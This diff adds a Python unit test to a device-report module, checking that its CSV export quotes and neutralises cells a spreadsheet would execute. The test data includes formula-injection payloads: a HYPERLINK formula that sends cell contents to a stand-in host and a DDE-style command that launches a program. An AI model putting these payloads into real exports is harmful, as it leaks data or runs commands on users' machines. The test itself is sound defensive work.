@@ -39,6 +39,27 @@ def test_csv_round_trips_names_with_commas_and_quotes():
     assert comma['name'] == 'lobby, "north"' and comma['online'] == 'yes' and comma['latest_version'] == '1.6'
 
 
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1']
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_quoted_text():
+    devices = [dev('f%d' % n, '1.4', '1.6', name=name) for n, name in enumerate(FORMULAS)]
+    devices.append(dev('=id', '-1', '1.6', product='-770', name='plain name'))
+    text = report.to_csv(devices)
+    parsed = dict((row['id'], row) for row in csv.DictReader(io.StringIO(text)))
+    for n, name in enumerate(FORMULAS):
+        assert parsed['f%d' % n]['name'] == "'" + name
+    odd = parsed["'=id"]
+    assert (odd['current_version'], odd['product'], odd['name']) == ("'-1", "'-770", 'plain name')
+    assert parsed['f0']['current_version'] == '1.4' and parsed['f0']['online'] == 'yes' and parsed['f0']['last_upgrade_failed'] == ''
+    # Every field quoted, the header too.
+    assert text.splitlines()[0] == ','.join('"%s"' % column for column in report.COLUMNS)
+    assert all(line.startswith('"') and line.endswith('"') for line in text.split('\n') if line)
+    # The other forms keep the values as the cloud gave them.
+    rows = dict((row['id'], row) for row in report.rows(devices))
+    assert rows['f0']['name'] == FORMULAS[0] and rows['=id']['current_version'] == '-1'
+
+
 def test_table_puts_attention_first_and_limits_rows():
     lines = report.to_table(DEVICES, limit=3)
     assert lines[0].startswith('6 device(s), 33.3% on the newest version')
